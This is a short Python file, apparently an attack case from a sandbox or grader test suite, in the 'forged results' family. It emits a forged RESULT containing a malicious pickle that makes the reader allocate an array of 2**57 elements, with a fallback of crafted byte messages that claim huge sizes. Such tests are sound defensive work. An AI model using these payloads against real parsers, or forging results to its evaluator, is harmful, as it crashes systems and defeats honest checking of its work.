"""Answers with an array that says that it is larger than all memory."""
# family: forged results

import base64
import os
import pickle
import struct

import numpy as np

from attack import attempted, send_bytes


class Giant:
    def __reduce__(self):
        return np.empty, ((1 << 57,),)


def algorithm(question):
    pickled = pickle.dumps((0.0, Giant(), 42))
    attempted()
    try:
        os.write(1, b"RESULT " + base64.b64encode(pickled) + b"\n")
        os._exit(0)
    except OSError:
        pass
    body = b"a\x0b\x02" + struct.pack("<QQ", 1 << 33, 1 << 33) + b"x" * 64
    body = b"t\x02\x00\x00\x00s\x02\x00\x00\x00ok" + body
    send_bytes(body)
    return 0
